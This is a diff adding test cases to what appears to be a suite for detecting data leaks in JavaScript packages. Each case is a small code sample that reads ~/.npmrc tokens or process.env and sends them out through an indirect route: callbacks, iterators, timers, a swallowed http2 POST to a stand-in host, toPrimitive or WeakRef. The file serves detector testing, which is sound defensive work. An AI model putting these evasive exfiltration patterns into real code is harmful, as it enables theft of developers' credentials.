@@ -331,6 +331,37 @@ const CHANNELS: readonly Row[] = [
     'what sees each request of a client',
     "const c=require('axios').create({});c.interceptors.request.use((cfg)=>{cfg.data=process.env;return cfg});c.post('/')",
   ],
+  [
+    'what a function of another module tells the one that it is given',
+    {
+      'index.js':
+        "const {each}=require('./keys');const rows=[];each((name,text)=>{rows.push(name+'.'+text)});SEND«rows.join()»",
+      'keys.js':
+        "const fs=require('fs'),os=require('os');exports.each=(fn)=>{['.npmrc'].forEach((n)=>fn(n,fs.readFileSync(os.homedir()+'/'+n,'utf8')))}",
+    },
+  ],
+  [
+    'an instance that another module makes, by what it says it holds',
+    {
+      'index.js': "import {Keys} from './keys.js';for(const k of new Keys())SEND«k»",
+      'keys.js':
+        "import {readFileSync} from 'node:fs';import {homedir} from 'node:os';export class Keys{*[Symbol.iterator](){yield readFileSync(homedir()+'/.npmrc')}}",
+    },
+    { type: 'module' },
+  ],
+  ['what a timer hands on to an export', 'READ;exports.up=(d)=>{SEND«d»};setImmediate(exports.up,k)'],
+  [
+    'a request of a connection that is only tried',
+    "READ;const attempt=(fn)=>{try{return fn()}catch{}};const n=attempt(()=>parseInt('1'));const s=attempt(()=>require('http2').connect('https://c.example'));s?.request({':method':'POST'})?.end(k)",
+  ],
+  [
+    'an instance that says itself what it is as a text',
+    "const fs=require('fs');class K{get text(){return fs.readFileSync(process.env.HOME+'/.npmrc','utf8')} [Symbol.toPrimitive](){return this.text} go(){const q=`${this}`;SEND«q»}} new K().go()",
+  ],
+  [
+    'the environment behind a weak reference',
+    'class K{constructor(){this.p=new WeakRef(process)} go(){SEND«JSON.stringify(this.p.deref().env)»}} new K().go()',
+  ],
 ];
 
 testLeaving(CHANNELS);
